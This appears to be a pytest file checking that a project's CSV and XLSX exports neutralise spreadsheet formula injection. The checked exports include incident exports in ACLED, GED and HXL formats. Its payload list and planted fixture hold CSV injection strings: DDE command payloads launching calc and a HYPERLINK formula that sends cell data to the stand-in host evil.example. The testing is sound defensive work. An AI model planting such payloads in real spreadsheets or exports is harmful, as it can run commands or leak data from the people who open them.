"""Issue 21: CSV and XLSX exports never hand a spreadsheet a formula.

A text cell beginning with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a
leading ``'`` (OWASP, "CSV Injection"); numbers and texts that are plain numbers stay as they
are. The files are opened as a spreadsheet would open them: openpyxl for XLSX, csv for CSV.
"""

from __future__ import annotations

import csv
import re
from typing import ClassVar

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from tawthiq.export import neutralise_cell, write_table

PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
KEPT = [0, -3, 2.5, -0.25, "-3.5", "+7", "1e3", "2016-12-13", "Fardous", "", None]


def _is_formula_text(value) -> bool:
    return isinstance(value, str) and value[:1] in ("=", "+", "-", "@", "\t", "\r")


def test_every_formula_payload_gets_a_leading_quote_and_keeps_its_text():
    for p in PAYLOADS:
        assert neutralise_cell(p) == "'" + p


def test_numbers_and_plain_text_are_untouched():
    for v in KEPT:
        assert neutralise_cell(v) == v


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_export_file_opened_as_a_spreadsheet_holds_no_formula(tmp_path, suffix):
    path = tmp_path / f"incidents{suffix}"
    rows = [[i, p, -i, f"note {i}"] for i, p in enumerate(PAYLOADS)]
    assert write_table(path, ["id", "=quote", "lon", "notes"], rows) == len(PAYLOADS)
    if suffix == ".csv":
        with path.open(encoding="utf-8", newline="") as fh:
            cells = [c for row in csv.reader(fh) for c in row]
        texts = cells
    else:
        book = load_workbook(path)  # not data_only: formulas would show as "=…" strings
        sheet = book.worksheets[0]
        assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
        cells = [c.value for row in sheet.iter_rows() for c in row]
        texts = [c for c in cells if isinstance(c, str)]
        assert -3 in cells  # a number stays a number
    assert not any(_is_formula_text(t) and not t.lstrip("+-").replace(".", "").isdigit() for t in texts)
    assert "'=cmd|' /C calc'!A0" in texts


def test_acled_export_of_a_planted_formula_is_neutralised(tmp_path, monkeypatch):
    from tawthiq.export import _tabular

    def fake_incidents(ctx):
        yield {"id": 1, "event_type": "attack.shelling", "grade": "weak",
               "rationale": "=cmd|' /C calc'!A0", "places": [{"name": "@SUM(A1)", "lat": 36.2, "lon": -1.5}],
               "origins": ["+origin"], "outlets": []}  # fmt: skip

    monkeypatch.setattr(_tabular, "public_incidents", fake_incidents)
    monkeypatch.setattr(_tabular, "country_of", lambda p, places: "Syria")
    monkeypatch.setattr(_tabular, "admin1_of", lambda p, places: "-Aleppo")

    class Ctx:
        country = None
        places: ClassVar[dict] = {}
        internal = False

    for writer in (_tabular.write_acled, _tabular.write_ged, _tabular.write_hxl):
        out = tmp_path / writer.__name__
        out.mkdir()
        info = writer(Ctx(), out)
        with (out / info["file"]).open(encoding="utf-8", newline="") as fh:
            cells = [c for row in csv.reader(fh) for c in row]
        assert not [c for c in cells if _is_formula_text(c) and c != "-1.5"], writer.__name__
        assert "-1.5" in cells  # the longitude is a number, untouched


@settings(max_examples=60, deadline=None)
@given(st.lists(st.one_of(st.text(max_size=20), st.integers(), st.floats(allow_nan=False)), max_size=6))
def test_no_generated_text_cell_ever_reads_as_a_formula(tmp_path_factory, row):
    path = tmp_path_factory.mktemp("x") / "t.csv"
    write_table(path, ["a"], [row])
    with path.open(encoding="utf-8", newline="") as fh:
        cells = list(csv.reader(fh))[1]
    for original, cell in zip(row, cells, strict=True):
        if isinstance(original, str) and _is_formula_text(original):
            plain_number = re.fullmatch(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?", original)
            assert cell == (original if plain_number else "'" + original)
